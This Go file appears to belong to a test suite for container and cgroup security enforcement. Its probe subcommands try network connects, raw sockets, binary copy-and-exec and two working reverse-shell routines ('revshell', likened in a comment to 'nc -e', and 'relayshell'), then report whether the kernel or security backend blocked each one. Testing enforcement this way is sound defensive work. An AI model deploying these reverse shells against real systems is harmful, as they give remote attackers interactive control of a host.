package main

import (
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"

	"github.com/ocigate/ocigate/internal/testenv/probe"
)

// The probe subcommands run as the scenario processes: the suite re-execs
// itself as "suite probe ..." directly inside a workload's cgroup. Each
// performs one operation with raw syscalls (so the errno is exactly what the
// kernel returned) and prints "ok" (exit 0) or "error: NAME: text" (exit 1).
// Usage errors exit 2.
const probeUsage = `usage: suite probe SUBCOMMAND
  connect HOST:PORT         TCP connect
  udp HOST:PORT             unconnected UDP sendto
  udpconnect HOST:PORT      UDP connect, then send
  udpself HOST:PORT         bind a UDP socket, send it a datagram, receive it
  rawdrop                   a malformed IP header on a raw socket, which the kernel drops; then wait 3s
  execcopy PATH             copy this binary to PATH and exec it (probe noop)
  noop                      print ok
  raw                       socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)
  packet                    socket(AF_PACKET, SOCK_RAW, 0)
  listen                    bind 127.0.0.1:0 and listen
  loopback                  accept a TCP connection to itself on 127.0.0.7:7007
  revshell HOST:PORT SHELL  connect, put the socket on fds 0-2, exec SHELL
  relayshell HOST:PORT SHELL  start SHELL -i on pipes, then connect (a relay)
  movecg DIR SUBCOMMAND...  move this process into cgroup DIR, then run SUBCOMMAND
  exec PROG ARGS...         exec PROG (a busybox command of the precision corpora)
  pause                     sleep until killed (a workload's placeholder init)`

// dialTimeout bounds every connect of the probe subcommands.
const dialTimeout = 10 * time.Second

// probeMain runs the probe subcommand args and returns its exit code.
func probeMain(args []string) int {
	if len(args) == 0 {
		return usageErr()
	}
	var err error
	switch cmd := args[0]; cmd {
	case "connect", "udp", "udpconnect", "udpself", "revshell", "relayshell":
		return addrProbe(cmd, args[1:])
	case "execcopy":
		if len(args) != 2 {
			return usageErr()
		}
		err = execCopy(args[1])
	case "noop":
	case "raw":
		err = probe.OpenSocket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)
	case "packet":
		err = probe.OpenSocket(unix.AF_PACKET, unix.SOCK_RAW, 0)
	case "listen":
		err = listenLoopback()
	case "loopback":
		err = acceptLoopback()
	case "rawdrop":
		if err = probe.RawDrop(); err == nil {
			time.Sleep(3 * time.Second) // the agent reads the process's mappings (a slow guest)
		}
	case "movecg":
		if len(args) < 3 {
			return usageErr()
		}
		if err := moveSelf(args[1]); err != nil {
			fmt.Printf("movecg: %v\n", err)
			return 3
		}
		return probeMain(args[2:])
	case "exec":
		if len(args) < 2 {
			return usageErr()
		}
		err = syscall.Exec(args[1], args[1:], os.Environ())
	case "pause":
		for {
			time.Sleep(time.Hour)
		}
	default:
		return usageErr()
	}
	return printOutcome(err)
}

// addrProbe runs a subcommand whose first argument is HOST:PORT: connect
// and udp take only that, revshell and relayshell a shell after it.
func addrProbe(cmd string, args []string) int {
	want := 1
	if cmd == "revshell" || cmd == "relayshell" {
		want = 2
	}
	if len(args) != want {
		return usageErr()
	}
	ap, err := probe.ParseAddr(args[0])
	if err != nil {
		fmt.Fprintf(os.Stderr, "probe: %v\n", err)
		return 2
	}
	switch cmd {
	case "connect":
		return printOutcome(probe.TCPConnect(ap, dialTimeout))
	case "udp":
		return printOutcome(probe.UDPSendto(ap))
	case "udpconnect":
		return printOutcome(probe.UDPConnect(ap))
	case "udpself":
		return printOutcome(probe.UDPSelf(ap, dialTimeout))
	case "revshell":
		return revshell(ap, args[1])
	default:
		return relayShell(ap, args[1])
	}
}

// execCopy copies this binary to path and execs it as "probe noop"; it
// returns only when the exec fails (refused by an LSM or fmod_ret
// backend).
func execCopy(path string) error {
	self, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		return err
	}
	if err := os.WriteFile(path, self, 0o755); err != nil {
		return err
	}
	return unix.Exec(path, []string{path, "probe", "noop"}, os.Environ())
}

// printOutcome prints a subcommand's outcome ("ok", or "error: NAME:
// text") and returns its exit code.
func printOutcome(err error) int {
	if err != nil {
		fmt.Printf("error: %s\n", probe.NamedErrText(err))
		return 1
	}
	fmt.Println("ok")
	return 0
}

// usageErr prints the usage and returns the usage errors' exit code.
func usageErr() int {
	fmt.Fprintln(os.Stderr, probeUsage)
	return 2
}

func listenLoopback() error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}}); err != nil {
		return err
	}
	return unix.Listen(fd, 1)
}

// loopbackAddr is where the loopback subcommand listens and receives.
var loopbackAddr = &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 7}, Port: 7007}

// acceptLoopback listens on loopbackAddr, connects to it and accepts the
// connection: an accepted connection of this process's.
func acceptLoopback() error {
	ln, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(ln)
	if err := unix.SetsockoptInt(ln, unix.SOL_SOCKET, unix.SO_REUSEADDR, 1); err != nil {
		return err
	}
	if err := unix.Bind(ln, loopbackAddr); err != nil {
		return err
	}
	if err := unix.Listen(ln, 1); err != nil {
		return err
	}
	fd, err := probe.DialTCP(netip.MustParseAddrPort("127.0.0.7:7007"), dialTimeout)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	conn, _, err := unix.Accept4(ln, unix.SOCK_CLOEXEC)
	if err != nil {
		return err
	}
	return unix.Close(conn)
}

// revshell is what "nc HOST PORT -e SHELL" does: the connected socket
// becomes the shell's stdin, stdout and stderr. If execve fails (an LSM or
// fmod_ret backend refusing it) the error goes to the probe's original
// stdout, never to the socket, and the probe exits 1 by itself.
func revshell(ap netip.AddrPort, shell string) int {
	out, err := unix.FcntlInt(1, unix.F_DUPFD_CLOEXEC, 10)
	if err != nil {
		fmt.Printf("error: dup stdout: %s\n", probe.NamedErrText(err))
		return 1
	}
	report := os.NewFile(uintptr(out), "stdout")
	fd, err := probe.DialTCP(ap, dialTimeout)
	if err != nil {
		fmt.Fprintf(report, "connect-error: %s\n", probe.NamedErrText(err))
		return 1
	}
	for i := 0; i < 3; i++ {
		if err := unix.Dup3(fd, i, 0); err != nil {
			fmt.Fprintf(report, "error: dup3: %s\n", probe.NamedErrText(err))
			return 1
		}
	}
	err = unix.Exec(shell, []string{filepath.Base(shell)}, []string{"PATH=/bin:/sbin:/usr/bin:/usr/sbin"})
	fmt.Fprintf(report, "error: %s\n", probe.NamedErrText(err))
	return 1
}

func moveSelf(dir string) error {
	pid := strconv.Itoa(os.Getpid())
	if err := os.WriteFile(filepath.Join(dir, "cgroup.procs"), []byte(pid), 0); err != nil {
		return err
	}
	b, err := os.ReadFile("/proc/self/cgroup")
	if err != nil {
		return err
	}
	for _, l := range strings.Split(string(b), "\n") {
		if strings.HasPrefix(l, "0::") {
			fmt.Fprintf(os.Stderr, "cgroup %s\n", strings.TrimPrefix(l, "0::"))
		}
	}
	return nil
}

// relayShell is a relayed reverse shell whose peer connects last: SHELL -i
// runs on pipes from and to this process, which then connects. It prints
// the connect's outcome, and on stderr how the shell ended
// ("shell-signal: N", or "shell-alive" when it still ran after 5 s and
// was killed here).
func relayShell(ap netip.AddrPort, shell string) int {
	inR, inW, err := os.Pipe()
	if err != nil {
		fmt.Printf("error: pipe: %s\n", probe.NamedErrText(err))
		return 1
	}
	outR, outW, err := os.Pipe()
	if err != nil {
		fmt.Printf("error: pipe: %s\n", probe.NamedErrText(err))
		return 1
	}
	defer inW.Close()
	defer outR.Close()
	proc, err := os.StartProcess(shell, []string{filepath.Base(shell), "-i"}, &os.ProcAttr{
		Files: []*os.File{inR, outW, outW}, Env: []string{"PATH=/bin:/sbin:/usr/bin:/usr/sbin"}})
	inR.Close()
	outW.Close()
	if err != nil {
		fmt.Printf("error: start %s: %s\n", shell, probe.NamedErrText(err))
		return 1
	}
	time.Sleep(500 * time.Millisecond) // the shell's exec comes first
	_, cerr := probe.DialTCP(ap, dialTimeout)
	done := make(chan *os.ProcessState, 1)
	go func() {
		st, _ := proc.Wait()
		done <- st
	}()
	select {
	case st := <-done:
		if ws, ok := st.Sys().(syscall.WaitStatus); ok && ws.Signaled() {
			fmt.Fprintf(os.Stderr, "shell-signal: %d\n", int(ws.Signal()))
		} else {
			fmt.Fprintf(os.Stderr, "shell-exit: %d\n", st.ExitCode())
		}
	case <-time.After(5 * time.Second):
		_ = proc.Kill()
		fmt.Fprintln(os.Stderr, "shell-alive")
	}
	if cerr != nil {
		fmt.Printf("error: %s\n", probe.NamedErrText(cerr))
		return 1
	}
	fmt.Println("ok")
	return 0
}
